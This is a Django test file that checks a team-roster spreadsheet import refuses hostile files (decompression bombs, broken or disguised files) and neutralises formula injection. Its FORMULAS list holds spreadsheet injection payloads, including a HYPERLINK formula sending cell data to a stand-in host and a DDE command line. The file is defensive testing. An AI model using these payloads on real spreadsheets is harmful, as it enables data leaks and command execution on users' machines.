"""The roster import fed hostile files (cnsc/core/tests/corpus): refused with a message and
nothing written; names that look like formulas stored as text and exported as text; decomposed
letters and BOMs read as the same people; and the back-office page never answers 500."""

from __future__ import annotations

import io
import unicodedata

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from cnsc.core.spreadsheets import ImportFileError
from cnsc.core.tests.corpus import CORPUS, deflate_bomb
from cnsc.team.models import Member, Membership, Team
from cnsc.team.tests.test_imports import (
    MEMBER_HEADERS,
    TEAM_HEADERS,
    csv_bytes,
    member_row,
    run,
    team_row,
)

pytestmark = pytest.mark.django_db

IMPORT = reverse("admin:team_member_roster_import")
CHANGELIST = reverse("admin:team_member_changelist")
HOSTILE_FILES = [
    "bomb_bzip2.xlsx",
    "laughs.xlsx",
    "huge_row_number.xlsx",
    "broken_sheet.xlsx",
    "lying_sizes.xlsx",
    "html.jpg",
    "script.svg",
    "gps.jpg",
    "pixel_bomb.png",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
]


@pytest.fixture(autouse=True)
def english(settings):
    settings.LANGUAGE_CODE = "en"
    with translation.override("en"):
        yield


def nothing_written() -> None:
    assert not Team.objects.exists()
    assert not Member.objects.exists()
    assert not Membership.objects.exists()


@pytest.mark.parametrize("name", HOSTILE_FILES)
def test_hostile_files_are_refused_and_write_nothing(name, hamlet, official):
    with pytest.raises(ImportFileError):
        run((CORPUS / name).read_bytes(), hamlet.commune, official, apply=True)
    nothing_written()


def test_a_zip_bomb_is_refused_by_the_roster_import(hamlet, official):
    with pytest.raises(ImportFileError, match="unpacks to far more data"):
        run(deflate_bomb(), hamlet.commune, official, apply=True)
    nothing_written()


def test_a_csv_field_over_the_csv_limit_is_a_message(hamlet, official):
    data = csv_bytes(MEMBER_HEADERS, [member_row(name="A" * 200_000)])
    with pytest.raises(ImportFileError, match="not a spreadsheet"):
        run(data, hamlet.commune, official, apply=True)
    nothing_written()


def test_a_file_that_breaks_after_good_rows_writes_nothing(hamlet, official):
    rows = [member_row(name=f"Người {n}", phone=f"0912{n:06d}", team="") for n in range(2000)]
    data = csv_bytes(MEMBER_HEADERS, rows) + b"Ng\xecu,Nam,1980,0912999999\r\n"
    with pytest.raises(ImportFileError, match="UTF-8"):
        run(data, hamlet.commune, official, apply=True)
    nothing_written()


def test_formula_names_are_stored_as_text_and_exported_as_text(client_of, official, hamlet):
    members = [
        member_row(name=formula, phone=f"0912 345 67{i}", team="", skills=formula)
        for i, formula in enumerate(FORMULAS)
    ]
    plan = run(csv_bytes(MEMBER_HEADERS, members), hamlet.commune, official, apply=True)
    assert plan.ok, plan.errors
    assert set(Member.objects.values_list("full_name", flat=True)) == set(FORMULAS)
    response = client_of(official).post(
        CHANGELIST,
        {
            "action": "export_xlsx",
            "_selected_action": list(Member.objects.values_list("pk", flat=True)),
        },
    )
    assert response.status_code == 200
    cells = [c for r in load_workbook(io.BytesIO(response.content)).active.iter_rows() for c in r]
    assert all(c.data_type != "f" for c in cells)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@"))]
    assert "'=cmd|' /C calc'!A0" in texts


def test_decomposed_letters_and_a_bom_are_the_same_people(hamlet, official):
    teams = csv_bytes(TEAM_HEADERS, [team_row()], bom=False)
    members = [member_row(), member_row(name="Trần Thị Ánh Tuyết", sex="Nữ", phone="0987654321")]
    nfd = unicodedata.normalize("NFD", csv_bytes(MEMBER_HEADERS, members, bom=False).decode())
    assert run(teams, hamlet.commune, official, apply=True).ok
    first = run(nfd.encode(), hamlet.commune, official, apply=True)
    assert first.ok, first.errors
    names = sorted(Member.objects.values_list("full_name", flat=True))
    assert names == ["Nguyễn Văn An", "Trần Thị Ánh Tuyết"]
    again = run(csv_bytes(MEMBER_HEADERS, members, bom=True), hamlet.commune, official, apply=True)
    assert again.counts["members_unchanged"] == 2
    assert Member.objects.count() == 2


def test_a_row_of_100000_columns_is_read(hamlet, official):
    data = csv_bytes(MEMBER_HEADERS, [member_row(team="") + ["x"] * 100_000])
    plan = run(data, hamlet.commune, official)
    assert plan.ok, plan.errors
    assert plan.counts["members_create"] == 1


@pytest.mark.parametrize("name", HOSTILE_FILES)
def test_the_import_page_never_answers_500(name, client_of, official, hamlet, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    response = client_of(official).post(
        IMPORT,
        {
            "commune": hamlet.commune.pk,
            "file": SimpleUploadedFile(name, (CORPUS / name).read_bytes()),
        },
    )
    assert response.status_code == 200
    assert response.context["form"].errors["file"]
    nothing_written()
